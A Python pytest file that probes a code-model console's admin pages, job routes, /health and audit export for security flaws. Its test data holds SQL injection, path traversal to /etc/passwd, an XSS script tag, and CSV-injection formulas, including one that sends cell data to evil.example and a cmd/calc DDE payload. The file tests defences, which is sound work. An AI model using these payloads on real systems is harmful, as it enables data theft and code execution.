"""An outside review of the console's re-index jobs and of /health's lease details, as an attacker: a
developer with a normal token, a caller with none, an admin sending path tricks and hostile names."""

from __future__ import annotations

import time

import pytest
import sqlalchemy as sa
from consoleapp import csrf_of, leased, signed_in
from fastapi.testclient import TestClient

from codemoat.accounts import Accounts
from codemoat.config import Settings
from codemoat.console.jobs import Jobs
from codemoat.console.jobs import table as jobs_table
from codemoat.db import open_db
from codemoat.engines.holder import ModelHolder
from codemoat.serve.app import create_app

XSS = "<script>alert(1)</script>"
SECRET_REPO = "payments-secret-repo"


@pytest.fixture
def setup(home):
    engine = open_db(f"sqlite:///{home / 'codemoat.db'}")
    accounts = Accounts(engine)
    holder = ModelHolder("sealed-model")  # no engine: jobs, pages and /health need none
    _, admin = accounts.create_token("root", user="root", scopes=("admin",))
    _, dev = accounts.create_token("dev", user="dev", scopes=("complete", "chat"))
    with TestClient(create_app(Settings(), holder=holder, accounts=accounts), base_url="http://testserver") as c:
        Jobs(engine)  # the table exists once the app has migrated
        with engine.begin() as conn:  # a job another replica runs (fresh heartbeat)
            conn.execute(
                jobs_table.insert().values(
                    id="a" * 16,
                    repo=SECRET_REPO,
                    by="root",
                    state="running",
                    done=1,
                    total=9,
                    started=time.time(),
                    host="replica-b",
                    pid=1,
                    instance="x",
                    heartbeat=time.time(),
                )
            )
        yield c, engine, holder, admin, dev


def test_a_job_page_needs_an_admin_session(setup):
    """No session, a developer's bearer token, or a developer's attempt to sign in: no job page."""
    c, _, _, _, dev = setup
    url = "/admin/repositories/jobs/" + "a" * 16
    r = c.get(url, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/admin/signin" and SECRET_REPO not in r.text
    r = c.get(url, headers={"Authorization": f"Bearer {dev}"}, follow_redirects=False)
    assert r.status_code == 303 and SECRET_REPO not in r.text
    assert signed_in(c, dev).status_code == 401
    r = c.get(url, follow_redirects=False)
    assert r.status_code == 303 and SECRET_REPO not in r.text
    r = c.post("/admin/repositories/reindex", data={"csrf": "x", "name": SECRET_REPO}, follow_redirects=False)
    assert r.status_code == 403


def test_odd_job_ids_and_repository_names_are_one_line_refusals(setup):
    """Job ids that are SQL, huge or hold NUL are a 404; re-index names with path tricks, NUL, HTML
    or 10 kB are a 400 naming no file, escaped, and start no job; another replica's running job is
    shown running (not failed) and refuses a second job for its repository."""
    c, engine, _, admin, _ = setup
    assert signed_in(c, admin).status_code == 303
    for jid in ("' OR '1'='1", "x" * 5000, "%00", "..%2F..%2Fadmin"):
        r = c.get(f"/admin/repositories/jobs/{jid}", follow_redirects=False)
        assert r.status_code == 404 and "Traceback" not in r.text, jid
    page = c.get("/admin/repositories").text
    for name in ("../../etc/passwd", "/etc", XSS, "svc\x00", "x" * 10_000):
        r = c.post("/admin/repositories/reindex", data={"csrf": csrf_of(page), "name": name}, follow_redirects=False)
        assert r.status_code == 400 and "Traceback" not in r.text and XSS not in r.text, name[:20]
        assert "root:" not in r.text  # no file read
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(jobs_table)).scalar() == 1
    html = c.get("/admin/repositories/jobs/" + "a" * 16).text
    assert SECRET_REPO in html and "running" in html and "failed" not in html


def test_health_shows_no_license_to_a_caller_without_a_token(setup):
    """A load balancer's /health without a token gets the status only: no license, customer, machine
    id or key server; a wrong token is a 401, not a quiet status."""
    c, _, holder, _, _ = setup
    holder.status.license = leased(time.time())
    r = c.get("/health")
    assert set(r.json()) == {"status"}
    assert "keys.vendor" not in r.text and "acme" not in r.text and "m" * 16 not in r.text
    r = c.get("/health", headers={"Authorization": "Bearer cm_not_a_token"})
    assert r.status_code == 401 and "keys.vendor" not in r.text


def test_a_refusal_never_echoes_a_query_as_html(setup):
    """The audit export's refusal quoted the caller's `status` or `since` into its page unescaped: a link
    an admin follows could put markup (a form, a meta refresh) into a page on the console's own origin."""
    c, _, _, admin, _ = setup
    assert signed_in(c, admin).status_code == 303
    for q in (f"status={XSS}", f"since={XSS}", f"fmt={XSS}"):
        for path in ("/admin/audit/export", "/admin/audit"):
            r = c.get(f"{path}?{q}", follow_redirects=False)
            assert XSS not in r.text and "Traceback" not in r.text, (path, q, r.status_code, r.text[:300])


def test_a_record_holding_a_lone_surrogate_does_not_break_the_audit_pages(setup):
    """Was broken: an audit detail holding a lone surrogate (a bundle file name that is not UTF-8, which
    Python reads as '\\udcff'; the model swap's path before d3f0aae) was stored as the JSON escape
    and decoded back into a str no encoder takes: the console's audit page, its export and the admin
    API's audit records answered 500 from then on, for every admin, for as long as it was on a page."""
    c, engine, _, admin, _ = setup
    log = c.app.state.trust.log
    name = b"\xff-release.moatpkg".decode("utf-8", "surrogateescape")  # what `update verify` sees on disk
    log.append("update", user="admin", route="update refused", detail={"file": name, "reason": "bad \ud800 bundle"})
    log.append("request", user="alice", route="/v1/completions", status=200, model="m\udcff", detail={"ok": "😀"})
    assert signed_in(c, admin).status_code == 303
    for path in ("/admin/audit", "/admin/audit/export?fmt=jsonl", "/admin/audit/export?fmt=csv", "/admin"):
        r = c.get(path)
        assert r.status_code == 200, (path, r.status_code, r.text[:200])
        assert "release.moatpkg" in r.text or path == "/admin", path
    r = c.get("/admin/api/audit", params={"kind": "update"}, headers={"Authorization": f"Bearer {admin}"})
    assert r.status_code == 200 and r.json()["records"][0]["detail"]["file"] == "\ufffd-release.moatpkg", r.text[:300]
    r = c.get("/admin/api/audit", headers={"Authorization": f"Bearer {admin}"})
    assert "😀" in r.text  # a real character outside the BMP is kept
    assert log.verify().ok
    from codemoat.audit.rows import to_public  # a record stored before the fix reads with U+FFFD too

    old = {"seq": 1, "ts_us": 0, "detail": '{"file":"\\udcff-release.moatpkg","ok":"\\ud83d\\ude00"}'}
    assert to_public(old)["detail"] == {"file": "\ufffd-release.moatpkg", "ok": "😀"}


def test_huge_record_numbers_are_one_line_refusals(setup):
    """Was broken: /admin/audit?before=<30 digits> was a 500 (OverflowError: SQLite takes 64-bit integers),
    <5000 digits> a 500 too (int() refuses over 4300 digits); the admin API's after_seq=<30 digits> the same."""
    c, _, _, admin, _ = setup
    assert signed_in(c, admin).status_code == 303
    for before in ("9" * 30, "9" * 5000, str(2**63)):
        r = c.get(f"/admin/audit?before={before}")
        assert r.status_code in (200, 400) and "Traceback" not in r.text, (before[:10], r.status_code, r.text[:200])
    h = {"Authorization": f"Bearer {admin}"}
    for q in ("after_seq=" + "9" * 30, "after_seq=-1", "limit=" + "9" * 30):
        r = c.get(f"/admin/api/audit?{q}", headers=h)
        assert r.status_code in (200, 400) and ("error" in r.json() or "records" in r.json()), (q[:20], r.status_code)


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(setup):
    """With prompt retention on, a developer's prompt (or a completion they steered) is kept verbatim; the
    CSV export wrote '=HYPERLINK(...)' as a cell that Excel or LibreOffice runs as a formula when the admin
    opens the file (CSV injection, OWASP): it can send other cells' audit data to a URL. A cell that starts
    with = + - @ or a tab or carriage return now starts with a ' (OWASP's advice); JSONL keeps the text as it is."""
    import csv
    import io

    c, _, _, admin, _ = setup
    log = c.app.state.trust.log
    bad = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=bad[0], completion_text=bad[1])
    for b in bad[2:]:
        log.append("request", user="alice", route="/v1/completions", status=200, prompt_text=b)
    assert signed_in(c, admin).status_code == 303
    rows = list(csv.DictReader(io.StringIO(c.get("/admin/audit/export?fmt=csv").text)))
    cells = [v for r in rows for v in r.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells
    kept = {v[1:] for v in cells if v.startswith("'")}
    assert set(bad) <= kept, kept
    jsonl = c.get("/admin/audit/export?fmt=jsonl").text
    assert '"prompt_text": "=HYPERLINK(' in jsonl


def test_huge_cost_inputs_are_one_line_refusals(setup):
    """Was broken: /admin/costs?developers=1e308 (or any count or price that large) was a 500 (OverflowError or
    ValueError from the model's arithmetic: inf, NaN, an int too large for a float); each is now the page with
    the input's one-line refusal."""
    from dataclasses import fields

    from codemoat.tco import Inputs

    c, _, _, admin, _ = setup
    assert signed_in(c, admin).status_code == 303
    for name in (f.name for f in fields(Inputs) if f.name != "sources"):
        for value in ("1e308", "9" * 300):
            r = c.get(f"/admin/costs?{name}={value}")
            assert r.status_code in (200, 400) and "Traceback" not in r.text, (name, value[:8], r.status_code, r.text[:200])
            assert f"tco input {name}" in r.text or "at most 120 months" in r.text, (name, value[:8])
    r = c.get("/admin/costs?months=0.5")  # was a 500 too (TypeError: range() of a float)
    assert r.status_code in (200, 400) and "a whole number" in r.text, r.status_code


def test_a_status_filter_of_non_ascii_digits_is_a_one_line_refusal(setup):
    """Was broken: the audit filter's status was checked with str.isdigit(), which is true of '²' (and other digits
    int() does not take), so /admin/audit?status=² and its export raised ValueError: a 500 with a traceback, for a link
    anyone can send an admin. Now only ASCII digits are a status: the page shows the filter's one-line error, the
    export refuses it; a real status still filters (the negative)."""
    c, _, _, admin, _ = setup
    log = c.app.state.trust.log
    log.append("request", user="alice", route="/v1/completions", status=404)
    log.append("request", user="bob", route="/v1/completions", status=200)
    assert signed_in(c, admin).status_code == 303
    for status in ("²", "١٢٣", "4０4"):
        r = c.get("/admin/audit", params={"status": status})
        assert r.status_code == 200 and "an HTTP status is a number" in r.text and "Traceback" not in r.text, status
        r = c.get("/admin/audit/export", params={"status": status})
        assert r.status_code == 403 and "an HTTP status is a number" in r.text, status
    page = c.get("/admin/audit", params={"status": "404"}).text
    assert "alice" in page and "bob" not in page
    assert [line for line in c.get("/admin/audit/export", params={"status": "404"}).text.splitlines() if '"bob"' in line] == []


def test_a_record_whose_answer_was_withheld_says_so_and_nothing_else_can_mark_one(setup):
    """A request record whose answer was replaced by a 503 (its commit was not confirmed, it committed all the same:
    `serve.late`) still says 200 with its tokens: the audit page marks it beside that status, with the `withheld`
    record that names it, and lists the correction under the alerts. Only a `withheld` record written after the one
    it names marks it, and only a request record: a detail naming a record as text, as `true`, a later record, an
    update record or markup marks nothing and renders as text."""
    import re

    c, _, _, admin, _ = setup
    log = c.app.state.trust.log
    served = log.append("request", user="alice", route="/v1/completions", status=200, prompt_tokens=5, completion_tokens=7)
    other = log.append("request", user="bob", route="/v1/completions", status=200)
    update = log.append("update", user="admin", route="update apply", detail={"step": "switched"})
    assert signed_in(c, admin).status_code == 303

    def marks() -> dict[str, str]:
        html = c.get("/admin/audit").text
        return {
            m.group(1): m.group(2) for m in re.finditer(r"<tr><td>(\d+)</td>(.*?)</tr>", html, re.S) if "withheld:" in m.group(2)
        }

    assert marks() == {}, "a record was marked withheld before any withheld record"
    tip = log.append("update", user="admin", route="update list")
    log.append("withheld", user="alice", route="/v1/completions", status=503, detail={"record": tip + 2})
    later = log.append("request", user="carol", route="/v1/completions", status=200)  # the record it named ahead
    assert later == tip + 2
    for bad in ({"record": str(served)}, {"record": True}, {"record": update}, {"record": XSS}, {"why": XSS}):
        log.append("withheld", user="alice", route="/v1/completions", status=503, detail=bad)
    assert marks() == {}, "a withheld record that names no earlier request record marked one"
    fixed = log.append("withheld", user="alice", route="/v1/completions", status=503, detail={"record": served, "status": 200})
    got = marks()
    assert list(got) == [str(served)], got
    assert f"withheld: the client got a 503 (record {fixed})" in got[str(served)]
    html = c.get("/admin/audit").text
    assert XSS not in html
    listed = re.search(r'<ul id="withheld">(.*?)</ul>', html, re.S).group(1)
    assert f"record {served}</li>" in listed and "record ?</li>" in listed, listed  # a detail naming none: "?"
    assert str(other) not in got and log.verify().ok
    for i in range(150):  # the record now on an older page than its withheld record, and filtered pages
        log.append("request", user="dave", route="/v1/completions", status=200, completion_tokens=i)
    mark = f"withheld: the client got a 503 (record {fixed})"
    for q in (
        f"before={served + 1}",
        "user=alice&kind=request",
        f"user=alice&kind=request&before={served + 1}",
        "status=200&user=alice",
    ):
        assert mark in c.get(f"/admin/audit?{q}").text, q
